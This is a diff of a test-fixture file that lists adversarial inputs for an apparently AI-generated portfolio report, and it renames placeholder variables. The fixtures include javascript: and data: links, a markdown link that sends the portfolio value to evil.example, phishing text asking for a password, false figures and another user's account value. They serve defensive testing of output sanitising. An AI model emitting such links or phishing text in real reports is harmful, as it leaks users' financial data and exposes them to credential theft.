@@ -40,7 +40,7 @@ MARKUP = {
     "javascript": "[more](javascript:alert(1))",
     "javascript, hidden in entities": "[more](&#106;avascript:alert)",
     "a data address": "[more](data:text/html;base64,PHNjcmlwdD4=)",
-    "a link that leaks data": "[your statement](https://evil.example/?worth=[[total_value]])",
+    "a link that leaks data": "[your statement](https://evil.example/?worth=[[portfolio.value]])",
     "an address to type": "Enter your password at https://evil.example/login.",
     "an address of no scheme": "Go to evil.example/login or //evil.example.",
     "an autolink": "<https://evil.example/>",
@@ -58,10 +58,10 @@ FIGURES = {
     "false figures": "Your portfolio is worth $9,999,999.",
     "figures in words": "Your portfolio is worth nine million dollars and will grow by twelve per cent.",
     "figures of other alphabets": "Your portfolio is worth ٩٩٩ or 𝟡𝟡𝟡 or ９９９.",
-    "a figure of somebody else": "[[bobs_total_value]] is what Bob has.",
-    "a figure with a unit of its own": "Your portfolio is worth [[total_value]] million.",
-    "a false direction": "Equity is [[asset_equity_drift|size]] below your target.",
-    "a false superlative": "ZED, at [[holding_zed_share]], is your largest holding.",
+    "a figure of somebody else": "[[account.bobs_ira.value]] is what Bob has.",
+    "a figure with a unit of its own": "Your portfolio is worth [[portfolio.value]] million.",
+    "a false direction": "Equity is [[asset_class.equity.drift|size]] below your target.",
+    "a false superlative": "ZED, at [[holding.zed.share]], is your largest holding.",
     "a claim of checks": "*999 figures checked, 0 corrected.*",
 }
 
@@ -162,7 +162,7 @@ TYPED = {
     ),
     "a confidence of a thousand": change_typed(lambda p: {**p, "confidence": 1000}, agent=TAGGER),
     "a priority of a billion": change_every("recommendations", RECOMMENDER, "Recommendations", priority=10**9),
-    "an impact of somebody else's": change_every("actions", CONCLUDER, "Conclude", impact=["bobs_total_value"]),
+    "an impact of somebody else's": change_every("actions", CONCLUDER, "Conclude", impact=["account.bobs_ira.value"]),
     "an impact that is markup": change_every(
         "recommendations", RECOMMENDER, "Recommendations", impact=[f"<b>{MARK}</b>"]
     ),
